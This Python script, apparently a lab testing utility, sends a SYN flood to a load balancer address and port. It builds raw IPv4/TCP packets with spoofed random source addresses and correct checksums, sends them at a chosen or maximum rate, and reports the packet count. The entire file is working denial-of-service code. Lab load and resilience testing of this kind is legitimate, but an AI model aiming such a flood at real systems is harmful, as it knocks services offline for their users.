#!/usr/bin/env python3
"""SYN flood for the lab tests: synflood.py VIP PORT SECONDS [RATE] [SRC_NET]
Sends TCP SYNs to VIP:PORT from spoofed sources (random addresses in SRC_NET, default 198.18.0.0/15, random ports)
through a raw socket (IP_HDRINCL), at RATE packets per second (default: as fast as it can), for SECONDS.
Checksums are correct (the LB drops bad ones). Prints {"sent": N, "seconds": S, "pps": R}."""
import ipaddress, json, random, socket, struct, sys, time

vip, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
rate = float(sys.argv[4]) if len(sys.argv) > 4 and float(sys.argv[4]) > 0 else 0.0
net = ipaddress.ip_network(sys.argv[5] if len(sys.argv) > 5 else "198.18.0.0/15")
base, span = int(net.network_address) + 1, net.num_addresses - 2
dst = socket.inet_aton(vip)
dst_hi, dst_lo = struct.unpack("!HH", dst)

def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
rnd = random.Random(1)
# Constant parts of the sums: IPv4 header (version/IHL 0x45, length 40, TTL 64, proto 6, dst) and TCP (dport, data
# offset 5, SYN, window 64240) with the pseudo header (dst, proto 6, length 20).
ip_const = 0x4500 + 40 + 0x4000 + (64 << 8 | 6) + dst_hi + dst_lo
tcp_const = port + (0x5000 | 0x02) + 64240 + dst_hi + dst_lo + 6 + 20
sent, start = 0, time.monotonic()
end = start + seconds
while True:
    now = time.monotonic()
    if now >= end:
        break
    if rate and sent >= (now - start) * rate:
        time.sleep(0.0005)
        continue
    src = base + rnd.randrange(span)
    src_hi, src_lo = src >> 16, src & 0xFFFF
    sport = 1024 + rnd.randrange(64000)
    seq = rnd.getrandbits(32)
    ident = sent & 0xFFFF
    ip_sum = ~fold(ip_const + ident + src_hi + src_lo) & 0xFFFF
    tcp_sum = ~fold(tcp_const + src_hi + src_lo + sport + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
    pkt = struct.pack("!BBHHHBBH4s4sHHIIBBHHH", 0x45, 0, 40, ident, 0x4000, 64, 6, ip_sum, struct.pack("!I", src), dst,
                      sport, port, seq, 0, 0x50, 0x02, 64240, tcp_sum, 0)
    try:
        s.sendto(pkt, (vip, 0))
    except OSError:
        pass  # ENOBUFS under pressure: not sent
    else:
        sent += 1
took = time.monotonic() - start
print(json.dumps({"sent": sent, "seconds": round(took, 3), "pps": round(sent / took)}), flush=True)
